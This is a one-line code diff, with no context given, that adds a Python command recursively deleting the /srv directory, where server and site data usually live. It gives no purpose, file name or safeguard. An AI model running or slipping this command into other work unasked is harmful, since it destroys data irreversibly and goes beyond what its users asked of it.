@@ -1,0 +1,1 @@
+python3 -c "import shutil; shutil.rmtree('/srv')"
